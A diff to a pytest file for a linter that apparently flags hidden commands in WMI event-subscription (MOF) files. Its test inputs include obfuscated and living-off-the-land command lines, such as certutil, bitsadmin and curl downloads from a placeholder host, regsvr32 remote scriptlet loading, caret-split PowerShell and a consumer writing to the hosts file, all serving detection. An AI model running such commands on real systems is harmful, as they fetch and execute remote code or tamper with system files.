@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from mofkit import parse_source
-from mofkit.cli.verdict import render_verdict
+from mofkit.cli.verdict import judged, render_verdict
 from mofkit.compiler import bind
 from mofkit.linter import Unit
 from mofkit.linter.payloads import Hidden, hidden_in, marks_in
@@ -155,6 +155,16 @@ def test_the_program_is_shown_once_with_its_command_line() -> None:
                 ("encoded command", "iex $inner"),
             ],
         ),
+        (
+            'CreateObject("ADO" & "DB.Str" & "eam")',
+            [("strings put together", 'CreateObject("ADODB.Stream")')],
+        ),
+        (
+            "new ActiveXObject('WScr'+'ipt.Sh'+'ell')",
+            [("strings put together", "new ActiveXObject('WScript.Shell')")],
+        ),
+        ('x = "a" & "b" + \'c\'', []),
+        ("b^i^t^s^admin /transfer x", [("without carets", "bitsadmin /transfer x")]),
         ("C:\\Tools\\A_Long_Path_With_Many_Words_And_Number_1\\run.exe -e value", []),
         ("", []),
     ],
@@ -173,6 +183,20 @@ def test_hidden_texts_are_decoded(text: str, hidden: list[tuple[str, str]]) -> N
         ("powershell -w hidden -File x.ps1", ["window"]),
         ("regsvr32 /s /u x.dll", ["other code"]),
         (f"powershell -ec {utf16('x y z')}", ["PowerShell"]),
+        ("p^o^w^e^r^s^h^e^l^l -File x.ps1", ["carets"]),
+        ("echo a^b ^& copy x^2 y", []),
+        ("curl.exe -s -o x.exe host", ["a download"]),
+        ("wget https://host.example/x", ["a download"]),
+        ("curl --version", []),
+        ("wscript.exe //b //e:vbscript x.txt", ["another name"]),
+        ("cscript //nologo x.vbs", []),
+        ("certutil -decode x.txt x.exe", ["decoded by certutil"]),
+        ("certutil.exe -urlcache -f http://host.example/x y", ["a download"]),
+        ("certutil -store my", []),
+        ("bitsadmin /addfile job http://host.example/x y", ["a download"]),
+        ('"C:\\Windows\\System32\\mshta.exe" x.hta', ["other code"]),
+        ("rundll32 javascript:x", ["other code"]),
+        ("regsvr32 /s /i:http://host.example/x scrobj.dll", ["other code"]),
     ],
 )
 def test_marks_of_hidden_commands(text: str, marks: list[str]) -> None:
@@ -205,19 +229,19 @@ verdict: tick.mof:12 installs a permanent event subscription, in root\\subscript
 
 def test_the_screen() -> None:
     result = parse_source(RECOVERED + FILTER + SCRIPT + BINDING, path="tick.mof")
-    assert render_verdict([bind([result])]) == SCREEN
+    assert render_verdict(judged([bind([result])])) == SCREEN
 
 
 def test_nothing_reaches_the_terminal_raw() -> None:
     text = SCRIPT.replace("x = 1", "\\x001b[31m").replace("VBScript", "V\\x202eB")
-    shown = render_verdict([bind([parse_source(text)])])
+    shown = render_verdict(judged([bind([parse_source(text)])]))
     assert "\x1b" not in shown
     assert "\u202e" not in shown
 
 
 def test_long_texts_are_cut() -> None:
     text = SCRIPT.replace("x = 1", "x = 1\\n" * 1000)
-    assert len(render_verdict([bind([parse_source(text)])]).splitlines()) < 25
+    assert len(render_verdict(judged([bind([parse_source(text)])])).splitlines()) < 25
 
 
 def test_check_shows_it_below_the_findings(tmp_path: Path) -> None:
@@ -232,3 +256,49 @@ def test_check_shows_it_below_the_findings(tmp_path: Path) -> None:
     assert "verdict: no part of a permanent event subscription is here" in shown.out
     assert shown.code == 0
     assert "verdict" not in mofkit("check", path).out
+
+
+def test_standard_consumers_say_what_they_write_and_send() -> None:
+    def action(text: str) -> tuple[str, list[str]]:
+        (found,) = of(f"instance of {text};")
+        assert found.action is not None
+        return found.action.text, [mark.what for mark in found.action.marks]
+
+    assert action(
+        'NTEventLogEventConsumer { Name = "x"; SourceName = "Demo"; EventID = 7; '
+        'InsertionStringTemplates = {"a", "b"}; }'
+    ) == ("source Demo, event 7\na\nb", [])
+    assert action(
+        'SMTPEventConsumer { Name = "x"; SMTPServer = "mail"; ToLine = "ops"; Subject = "disk"; '
+        'Message = "low"; }'
+    ) == ("to ops\nthrough mail\nsubject: disk\nlow", [])
+    assert action('LogFileEventConsumer { Filename = "C:\\\\Logs\\\\a.log"; Text = "t"; }') == (
+        "C:\\Logs\\a.log: t",
+        [],
+    )
+    hosts = "C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts"
+    assert action(f'LogFileEventConsumer {{ Filename = "{hosts}"; }}')[1] == [
+        "a file of the system"
+    ]
+    assert action('LogFileEventConsumer { Filename = "C:\\\\a.ps1"; }')[1] == [
+        "a file that can be run"
+    ]
+
+
+def test_what_the_binding_names_may_be_where_an_error_is() -> None:
+    """It must not be called absent: it is there, and cannot be read to its end."""
+    broken = SCRIPT.replace('"VBScript";', '"VBScript"')
+    bound = bind([parse_source(FILTER + broken + BINDING)])
+    (found,) = judged([bound]).found
+    assert found.action is not None
+    assert not any("none of the files" in reason for reason in found.reasons)
+    bound = bind([parse_source(FILTER + "instance of = {};\n" + BINDING)])
+    (found,) = judged([bound]).found
+    assert found.reasons[0] == (
+        "what the binding names as consumer is in a part that could not be read, or nowhere"
+    )
+
+
+def test_an_alias_of_nothing_is_named() -> None:
+    (found,) = of(FILTER + BINDING)
+    assert found.reasons[0] == "the alias $C, which the binding names as consumer, is of nothing"
